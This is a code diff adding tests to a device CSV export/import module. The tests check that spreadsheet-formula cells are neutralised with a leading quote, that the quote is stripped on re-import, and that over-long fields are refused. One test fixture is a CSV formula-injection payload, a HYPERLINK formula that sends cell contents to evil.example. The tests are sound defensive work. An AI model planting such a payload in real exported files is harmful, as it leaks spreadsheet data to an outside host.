@@ -165,3 +165,68 @@ def test_import_api_and_page_report_rows(world, org, api_as, client):
     assert page.status_code == 422
     html = page.content.decode()
     assert "serial GW-1 is already registered." in html and "nothing was imported" in html
+
+
+# --- formula injection and length limits (issue 11) ------------------------------------------
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_neutralises_formula_leading_cells(world, lead):
+    """A device-controlled cell that a spreadsheet would run as a formula is exported with a
+    leading single quote (OWASP), and the quote is dropped again on re-import."""
+    org = world.a.org
+    site = make_site(org, "Dock 7")
+    payload = f'{lead}HYPERLINK("https://evil.example/?"&A1,"click")'
+    make_device(
+        org,
+        site,
+        serial=payload,
+        name=f"{lead}name",
+        agent_version=f"{lead}1",
+        runtime_version=f"{lead}ort",
+        notes=f"{lead}note",
+    )
+    exported = device_csv.export_devices_csv(Device.objects.filter(organization=org))
+    import csv
+    import io
+
+    header, row = list(csv.reader(io.StringIO(exported, newline="")))
+    cells = dict(zip(header, row, strict=True))
+    for column in ("serial", "name", "agent_version", "runtime_version", "notes"):
+        assert cells[column].startswith("'" + lead), (column, cells[column])
+    assert cells["site"] == "Dock 7"  # harmless cells are left alone
+
+    make_site(world.b.org, "Dock 7")
+    (copy,) = device_csv.import_devices_csv(
+        organization=world.b.org, data=exported.encode(), actor=Actor.system("tests")
+    )
+    # Import strips surrounding whitespace from every cell, so a tab or CR lead goes too.
+    assert copy.serial == payload.strip()
+    assert (copy.name, copy.agent_version) == (f"{lead}name".strip(), f"{lead}1".strip())
+
+
+def test_neutralise_cell_leaves_ordinary_text_and_quotes_only_formula_leads():
+    assert device_csv.neutralise_cell("GW-1") == "GW-1"
+    assert device_csv.neutralise_cell("") == ""
+    assert device_csv.neutralise_cell("=1+1") == "'=1+1"
+    assert device_csv.neutralise_cell("-5") == "'-5"
+    assert device_csv.neutralise_cell("'=1") == "''=1"  # already quoted text keeps its quote
+    assert device_csv.restore_cell("'=1+1") == "=1+1"
+    assert device_csv.restore_cell("''=1") == "'=1"
+    assert device_csv.restore_cell("'plain") == "'plain"  # only quote+formula lead is undone
+
+
+def test_over_long_device_text_is_refused_with_the_line(org):
+    text = (
+        HEADER
+        + f"GW-1,dock,Dock 7,,,,{'1' * 41},,\n"
+        + f"GW-2,dock,Dock 7,,,,,{'r' * 41},\n"
+        + f"GW-3,{'n' * 121},Dock 7,,,,,,\n"
+    )
+    with pytest.raises(InvalidInput) as err:
+        run_import(org, text)
+    fields = err.value.fields
+    assert fields["line 2"] == ["agent_version is longer than 40 characters."]
+    assert fields["line 3"] == ["runtime_version is longer than 40 characters."]
+    assert fields["line 4"] == ["name is longer than 120 characters."]
+    assert not Device.objects.exists()
